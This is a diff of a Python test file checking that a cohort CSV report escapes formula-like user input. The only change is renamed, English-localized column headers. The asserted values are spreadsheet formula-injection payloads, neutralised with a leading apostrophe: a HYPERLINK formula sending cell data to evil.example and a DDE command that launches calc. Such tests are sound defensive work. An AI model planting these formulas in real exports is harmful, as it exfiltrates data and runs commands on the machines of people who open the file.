@@ -278,12 +278,12 @@ async def test_typed_text_reaches_the_csv_report_as_text_not_as_a_formula(
     )
     await sign_in(http, "coordinator", "coordinator-dev")
 
-    sheet = await http.get("/cohorts/2027/report.csv")
+    sheet = await http.get("/cohorts/2027/report.csv", headers={"Accept-Language": "en"})
 
-    row = next(r for r in csv.DictReader(io.StringIO(sheet.text)) if r["owner_id"] == DRAMMEN.owner_id)
-    assert row["goals"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klikk"); fine'
-    assert row["end_reason"] == "'@cmd|' /C calc'!A0"
-    assert row["meetings_held"] == "2"  # numbers stay numbers
+    row = next(r for r in csv.DictReader(io.StringIO(sheet.text)) if r["Owner id"] == DRAMMEN.owner_id)
+    assert row["Goals"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klikk"); fine'
+    assert row["End reason"] == "'@cmd|' /C calc'!A0"
+    assert row["Meetings held"] == "2"  # numbers stay numbers
 
 
 async def test_a_cohort_name_reaches_the_download_file_name_quoted_and_encoded(
